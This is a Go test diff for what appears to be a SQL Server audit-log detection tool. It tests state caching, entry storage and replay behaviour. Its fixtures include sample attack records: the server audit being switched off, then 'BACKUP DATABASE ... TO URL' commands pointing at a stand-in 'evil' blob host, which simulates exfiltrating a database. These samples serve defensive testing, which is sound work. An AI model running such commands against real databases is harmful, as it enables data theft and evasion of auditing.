@@ -14,6 +14,7 @@ import (
 
 	"github.com/xelwatch/xelwatch/detect"
 	"github.com/xelwatch/xelwatch/handler/internal/testsupport/azuritetest"
+	"github.com/xelwatch/xelwatch/xel/audit"
 )
 
 var t0 = time.Date(2026, 11, 18, 14, 0, 0, 0, time.UTC)
@@ -244,6 +245,37 @@ func TestAzurite(t *testing.T) {
 		}
 	})
 
+	t.Run("read cache contract", func(t *testing.T) {
+		// A State sees its own writes at once and another instance's
+		// writes within ReadTTL: until then Get may answer from the copy
+		// it last read or wrote.
+		clk := &clock{t: t0}
+		a := New(client, &Options{ReadTTL: time.Second, Now: clk.Now})
+		b := New(client, nil)
+		key := "contract|key"
+		if _, err := a.Update(ctx, key, t0.Add(time.Hour), appendID("a1")); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := b.Update(ctx, key, t0.Add(time.Hour), appendID("b1")); err != nil {
+			t.Fatal(err)
+		}
+		if got, _ := a.Get(ctx, key); !slices.Equal(entryIDs(got), []string{"a1"}) {
+			t.Errorf("within ReadTTL: %q, want a's own copy [a1]", entryIDs(got))
+		}
+		clk.Add(1500 * time.Millisecond)
+		if got, _ := a.Get(ctx, key); !slices.Equal(entryIDs(got), []string{"a1", "b1"}) {
+			t.Errorf("after ReadTTL: %q, want [a1 b1]", entryIDs(got))
+		}
+		// An update never loses the other instance's write, whatever the
+		// cache holds: the stale copy's ETag fails and Update reads.
+		if _, err := b.Update(ctx, key, t0.Add(time.Hour), appendID("b2")); err != nil {
+			t.Fatal(err)
+		}
+		if got, _ := a.Update(ctx, key, t0.Add(time.Hour), appendID("a2")); !slices.Equal(entryIDs(got), []string{"a1", "b1", "b2", "a2"}) {
+			t.Errorf("update on a stale copy: %q, want [a1 b1 b2 a2]", entryIDs(got))
+		}
+	})
+
 	t.Run("engine across instances", func(t *testing.T) {
 		testEngineAcrossInstances(t, New(client, nil), New(client, nil))
 	})
@@ -264,4 +296,74 @@ func TestAzurite(t *testing.T) {
 			t.Error("prune removed an unexpired key")
 		}
 	})
+}
+
+// TestEntryPlaceRoundTrip: the place of a split record's last part
+// survives the table, and entries written before it existed read back
+// with no place.
+func TestEntryPlaceRoundTrip(t *testing.T) {
+	ctx := context.Background()
+	f := newFakeTable()
+	last := detect.Place{Offset: 9000, Index: 3}
+	if _, err := New(f, nil).Update(ctx, "k|1", t0.Add(time.Hour), func([]detect.Entry) []detect.Entry {
+		return []detect.Entry{{ID: "f.xel@4096#1", Time: t0, Last: last}, {ID: "f.xel@8192#0", Time: t0}}
+	}); err != nil {
+		t.Fatal(err)
+	}
+	got, err := New(f, nil).Get(ctx, "k|1")
+	if err != nil || len(got) != 2 || got[0].Last != last || got[1].Last != (detect.Place{}) {
+		t.Fatalf("entries = %+v, %v; want the last part's place on the first only", got, err)
+	}
+	for _, r := range f.rows {
+		if strings.Count(string(r.body), `\"l\"`) != 1 {
+			t.Errorf("entity %s: want one place property (none for a record in one part)", r.body)
+		}
+	}
+	// An entity written by an earlier version.
+	old := `{"PartitionKey":"k","RowKey":"x","Expires":"2026-11-18T15:00:00Z","Count":1,"Chunks":1,"E0":"[{\"id\":\"f.xel@4096#1\",\"t\":\"2026-11-18T14:00:00Z\",\"v\":\"sa\"}]"}`
+	st, err := decode([]byte(old))
+	if err != nil || len(st.entries) != 1 || st.entries[0].Last != (detect.Place{}) || st.entries[0].Value != "sa" {
+		t.Errorf("old entity = %+v, %v", st.entries, err)
+	}
+}
+
+// TestEngineReplayOnTableState: a pass evaluated through the table state
+// and replayed from the start of the file adds no detection (the places
+// of entries survive the table).
+func TestEngineReplayOnTableState(t *testing.T) {
+	cfg := detect.DefaultConfig()
+	recs := []audit.Record{
+		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 0, 4096),
+		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", time.Minute, 8192),
+		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 2*time.Minute, 12288),
+		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 3*time.Minute, 16384),
+		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 4*time.Minute, 20480),
+		recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evil.blob.core.windows.net/c/s.bak'", 5*time.Minute, 24576),
+		recordFor("AUSC", "A", "", 6*time.Minute, 28672),
+		recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evil.blob.core.windows.net/c/t.bak'", 7*time.Minute, 32768),
+	}
+	recs[5].Parts = []audit.Record{{AuditFileOffset: 24576}, {AuditFileOffset: 28672, EventIndex: 1}}
+	pass := func(st detect.State) []string {
+		e, err := detect.New(cfg, st)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out []string
+		for i := range recs {
+			fs, err := e.Evaluate(context.Background(), &recs[i])
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, f := range fs {
+				out = append(out, f.Rule+":"+f.DetectionID)
+			}
+		}
+		slices.Sort(out)
+		return slices.Compact(out)
+	}
+	f := newFakeTable()
+	first := pass(New(f, nil))
+	if again := pass(New(f, nil)); !slices.Equal(again, first) {
+		t.Errorf("replay = %q, want %q", again, first)
+	}
 }
